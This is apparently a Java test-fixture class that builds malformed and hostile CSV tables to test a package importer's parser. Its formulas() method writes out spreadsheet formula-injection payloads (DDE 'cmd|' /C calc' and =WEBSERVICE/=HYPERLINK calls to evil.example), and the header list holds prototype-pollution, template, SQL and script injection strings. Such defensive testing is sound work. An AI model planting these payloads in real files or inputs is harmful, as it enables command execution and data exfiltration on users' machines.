package io.countersign.abuse;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.countersign.agreement.Packages;

/** Tables that spreadsheet programs mangle, and tables made to break what reads them. */
final class CsvCases {

	private final Map<String, String> row = new LinkedHashMap<>();

	private final List<Case> cases = new ArrayList<>();

	private CsvCases() {
		try {
			flatten("", new ObjectMapper().readTree(Packages.clean().json()));
		}
		catch (java.io.IOException ex) {
			throw new java.io.UncheckedIOException(ex);
		}
	}

	/** Every case; each is taken or refused, but whole and in good time. */
	static List<Case> all() {
		CsvCases cases = new CsvCases();
		cases.dialects();
		cases.quotes();
		cases.formulas();
		cases.encodings();
		cases.controls();
		cases.ragged();
		cases.headers();
		cases.large();
		cases.cutOff();
		cases.damaged();
		return cases.cases;
	}

	/** A regular table of one package. */
	static byte[] clean() {
		return new CsvCases().table(",", "\r\n", true).getBytes(StandardCharsets.UTF_8);
	}

	private void flatten(String path, JsonNode node) {
		if (node.isObject()) {
			node.properties()
				.forEach((field) -> flatten(path.isEmpty() ? field.getKey() : path + "." + field.getKey(),
						field.getValue()));
		}
		else if (node.isArray()) {
			for (int i = 0; i < node.size(); i++) {
				flatten(path + "[" + (i + 1) + "]", node.get(i));
			}
		}
		else {
			this.row.put(path, node.asText());
		}
	}

	private String table(String separator, String end, boolean quoted) {
		return line(this.row.keySet(), separator, quoted) + end + line(this.row.values(), separator, quoted) + end;
	}

	private static String line(Iterable<String> cells, String separator, boolean quoted) {
		List<String> line = new ArrayList<>();
		cells.forEach((cell) -> line.add(quoted ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell));
		return String.join(separator, line);
	}

	private String with(String column, String value) {
		Map<String, String> changed = new LinkedHashMap<>(this.row);
		changed.put(column, value);
		return line(changed.keySet(), ",", true) + "\r\n" + line(changed.values(), ",", true) + "\r\n";
	}

	private void add(String name, String text) {
		this.cases.add(Case.of(name, text));
	}

	private void dialects() {
		for (String separator : List.of(",", ";", "\t", "|", ":", " ", "")) {
			for (String end : List.of("\r\n", "\n", "\r", "\n\r", "\r\r\n", "\u2028")) {
				for (boolean quoted : new boolean[] { true, false }) {
					add("separated by '%s', lines by %s, %s".formatted(separator, shown(end),
							quoted ? "quoted" : "plain"), table(separator, end, quoted));
				}
			}
		}
		add("a line that names the separator", "sep=;\r\n" + table(";", "\r\n", true));
	}

	private static String shown(String text) {
		return text.chars().mapToObj("%02x"::formatted).collect(Collectors.joining(" "));
	}

	private void quotes() {
		String table = table(",", "\r\n", true);
		add("a quote left open in the header", "\"" + table);
		add("a quote left open in the row", table + "\"x");
		add("quotes only", "\"".repeat(1001));
		add("a million quotes", "\"".repeat(1_000_000));
		add("text behind a quote", table.replaceFirst("\",", "\"x,"));
		add("text in front of a quote", table.replaceFirst(",\"", ",x\""));
		add("quotes inside plain text", table(",", "\r\n", false).replace("Contoso", "Con\"toso"));
		add("doubled quotes", table.replace("Contoso", "Con\"\"toso"));
		add("quotes with backslashes", table.replace("Contoso", "Con\\\"toso"));
		add("single quotes", table.replace('"', '\''));
		add("typographic quotes", table.replace('"', '”'));
		add("line breaks in cells", with("customer.legalName", "Contoso\r\nPharma\nGmbH"));
		add("separators in cells", with("customer.legalName", "Contoso, Pharma; GmbH\t|"));
		add("a row in a cell", with("customer.legalName", "x\"\r\n\"" + "y".repeat(100)));
	}

	private void formulas() {
		for (String start : List.of("=", "+", "-", "@", "\t=", "\r=", "\u0000=", "'=", "\uFF1D", " =")) {
			for (String column : List.of("packageId", "customer.legalName", "purchaseOrder.number",
					"documents[1].fileName", "customer.address.city")) {
				add("%s starts with %s".formatted(column, shown(start)), with(column, start + "cmd|' /C calc'!A0"));
			}
		}
		add("a link to outside", with("customer.legalName", "=HYPERLINK(\"http://evil.example\";\"x\")"));
		add("a web query", with("customer.legalName", "=WEBSERVICE(\"http://evil.example/\"&A1)"));
	}

	private void encodings() {
		String table = table(",", "\r\n", true).replace("Contoso", "Müller");
		for (String charset : List.of("UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "ISO-8859-1", "windows-1252",
				"IBM037", "Shift_JIS", "IBM850")) {
			this.cases.add(new Case("as " + charset, table.getBytes(Charset.forName(charset))));
		}
		add("a byte order mark", "\uFEFF" + table);
		add("two byte order marks", "\uFEFF\uFEFF" + table);
		add("a byte order mark alone", "\uFEFF");
		add("right to left", with("customer.legalName", "Contoso\u202EHbmG"));
		add("half a pair", with("customer.legalName", "Contoso\uFFFD"));
		add("letters that look alike", with("packageId", "NW-\u0430\u0435"));
		add("combined letters without end", with("customer.legalName", "a" + "\u0301".repeat(2000)));
		this.cases.add(new Case("overlong", new byte[] { 'a', ',', (byte) 0xC0, (byte) 0xAF }));
		this.cases.add(new Case("nothing", new byte[0]));
		this.cases.add(new Case("one NUL", new byte[1]));
	}

	private void controls() {
		for (int c = 0; c < 32; c++) {
			add("character %02x in a cell".formatted(c), with("customer.legalName", "Contoso" + (char) c + "GmbH"));
		}
		add("delete in a cell", with("customer.legalName", "Contoso\u007FGmbH"));
		add("next line in a cell", with("customer.legalName", "Contoso\u0085GmbH"));
	}

	private void ragged() {
		String header = line(this.row.keySet(), ",", true);
		List<String> cells = List.copyOf(this.row.values());
		for (int missing : new int[] { 1, 2, 5, 10, cells.size() - 1, cells.size() }) {
			add("%d cells too few".formatted(missing),
					header + "\r\n" + line(cells.subList(0, cells.size() - missing), ",", true));
		}
		for (int more : new int[] { 1, 2, 10, 100, 1000 }) {
			add("%d cells too many".formatted(more), header + "\r\n" + line(cells, ",", true) + ",\"x\"".repeat(more));
			add("%d blank cells too many".formatted(more), header + "\r\n" + line(cells, ",", true) + ",".repeat(more));
		}
		add("a header alone", header);
		add("a header twice", header + "\r\n" + header);
		add("a header and blank lines", header + "\r\n".repeat(50));
		add("blank lines in front", "\r\n".repeat(50) + table(",", "\r\n", true));
		add("rows of another header", header + "\r\na,b\r\n" + line(cells, ",", true));
		add("the same row twice", header + ("\r\n" + line(cells, ",", true)).repeat(2));
	}

	private void headers() {
		for (String column : List.of("", " ", "x", "packageId", "PACKAGEID", "packageId ", "customer", "customer.",
				".customer", "customer..legalName", "customer.legalName.x", "lines", "lines[0].quantity",
				"lines[-1].quantity", "lines[99999999999].quantity", "lines[1e3].quantity", "lines[1.quantity",
				"lines[1]]quantity", "lines[1][2].quantity", "lines[2147483647].quantity", "lines[500].quantity",
				"documents[51].fileName", "__proto__.admin", "constructor", "class.module", "${7*7}", "=1+1",
				"'; drop table x; --", "<script>", "../x", "$schema", "preflight", "a".repeat(5000), "a.".repeat(2000),
				"[1]".repeat(2000), "packageId\u0000")) {
			add("a column named '%.30s'".formatted(column) + ((column.length() > 30) ? " …" : ""), with(column, "1"));
		}
		String table = table(",", "\r\n", true);
		add("the same column twice", table.replaceFirst("\"programme\"", "\"packageId\""));
		add("no header", line(this.row.values(), ",", true));
		add("numbers as header", "1,2,3\r\n1,2,3");
	}

	private void large() {
		add("a million columns", "a,".repeat(1_000_000) + "a\r\n");
		add("a million cells in a row", table(",", "\r\n", true) + "1,".repeat(1_000_000));
		add("5,001 rows", "packageId\r\n" + "x\r\n".repeat(5_001));
		add("a million rows", "packageId\r\n" + "x\r\n".repeat(1_000_000));
		add("a million blank lines", "packageId\r\n" + "\r\n".repeat(1_000_000));
		add("a million carriage returns", "packageId" + "\r".repeat(1_000_000));
		add("a cell of 4 KiB and a byte", with("customer.legalName", "x".repeat(4097)));
		add("a cell of 9 MB", with("customer.legalName", "x".repeat(9_000_000)));
		add("a quoted cell of 9 MB of line breaks", with("customer.legalName", "\n".repeat(9_000_000)));
		add("a number of 4,000 digits", with("lines[1].quantity", "9".repeat(4000)));
		add("a number of any size", with("totalValue.amount", "1e999999999"));
		add("a date of any length", with("term.start", "2026-".repeat(500)));
		this.cases.add(new Case("10 MiB and a byte", Zips.blanks((10 << 20) + 1)));
	}

	private void cutOff() {
		byte[] whole = clean();
		for (int i = 1; i < 30; i++) {
			byte[] cut = new byte[whole.length * i / 30];
			System.arraycopy(whole, 0, cut, 0, cut.length);
			this.cases.add(new Case("cut off after %d/30".formatted(i), cut));
		}
	}

	private void damaged() {
		Random random = new Random(20261123);
		for (int i = 1; i <= 30; i++) {
			byte[] damaged = clean();
			for (int hit = 0; hit < i; hit++) {
				damaged[random.nextInt(damaged.length)] = (byte) random.nextInt(128);
			}
			this.cases.add(new Case("%d bytes damaged".formatted(i), damaged));
		}
	}

}
